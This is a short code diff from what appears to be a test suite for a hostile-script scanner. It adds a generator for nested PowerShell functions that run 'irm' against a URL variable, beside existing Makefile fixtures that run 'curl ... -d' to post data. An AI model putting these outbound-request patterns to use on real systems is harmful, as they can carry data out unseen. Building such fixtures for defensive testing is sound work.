@@ -56,6 +56,9 @@ export const hostileScripts: Readonly<Record<string, HostileFile>> = {
   "PowerShell with strings without end": powershell((bytes) => upTo(bytes, "\n", (at) => `$a${at} = '{"where"`)),
   "blocks of PowerShell in each other": powershell((bytes) => `$a = '${json(1)}'\n${upTo(bytes, "", () => "if ($x) { ")}`),
   "texts of PowerShell": powershell((bytes) => upTo(bytes, "\n", (at) => `$a${at} = @'\n${json(at)}\n'@`)),
+  "functions of PowerShell that call each other": powershell(
+    (bytes) => `function F0 { irm ${url} -Body '${body(0)}' }\n${upTo(bytes, "\n", (at) => `function F${at + 1} { F${at} | ConvertTo-Json }`)}\n`,
+  ),
   "recipes on one line each": makefile((bytes) => upTo(bytes, "\n", (at) => `a${at}: ; curl ${url} -d '${body(at)}'`)),
   "recipes of many lines": makefile((bytes) => `a:\n${upTo(bytes, "\n", (at) => `\tcurl ${url} -d '${body(at)}'`)}`),
   "one recipe that goes on": makefile((bytes) => `a:\n\t${upTo(bytes, " \\\n\t", (at) => `curl ${url} -d '${body(at)}' &&`)}`),
